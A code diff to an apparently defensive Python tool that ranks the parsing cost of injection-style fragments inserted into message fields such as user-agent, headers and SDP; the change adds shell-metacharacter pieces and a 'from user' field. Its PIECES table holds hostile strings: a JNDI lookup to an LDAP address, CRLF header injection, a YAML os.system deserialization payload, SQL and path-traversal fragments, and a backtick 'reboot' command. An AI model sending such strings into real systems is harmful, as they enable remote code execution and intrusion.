@@ -43,6 +43,7 @@ PIECES: Final = {
     "amps": b"& cat ", "ats": b"@", "colons": b":", "selects": b"select a,", "calls": b"char(", "xml": b"<a ",
     "ligatures": "ﷺ".encode(), "squared words": "㌖".encode(), "accents apart": "á".encode(), "tags": "\U000e0041".encode(),
     "hits in turn": b"${jndi:ldap://192.0.2.1/a} %0d%0aSet-Cookie: x !!python/object:os.system \\x41system('id') <?xml version='1.0'?> ",
+    "redirections": b">' ", "lists": b";' ", "asides": b"&' ",
     "hits of sheets": b"0x2e0x2e/0x2e0x2e/etc +SUMME(A1;B2) (SELECT @@version) `reboot` ",
 }  # fmt: skip
 
@@ -193,7 +194,7 @@ def main() -> int:
     rows = []
     places = {(place, name): piece for place in PLACES for name, piece in PIECES.items()}
     for name, piece in pieces_of_rules(rules).items():
-        places |= {(place, name): piece for place in ("user-agent", "headers", "short fields", "sdp")}
+        places |= {(place, name): piece for place in ("user-agent", "from user", "headers", "short fields", "sdp")}
     for (place, name), piece in places.items():
         rows.append((max(cost_of(message(place, piece, size)) for size in SIZES), place, name, piece))
     rows.sort(reverse=True, key=lambda row: row[0])
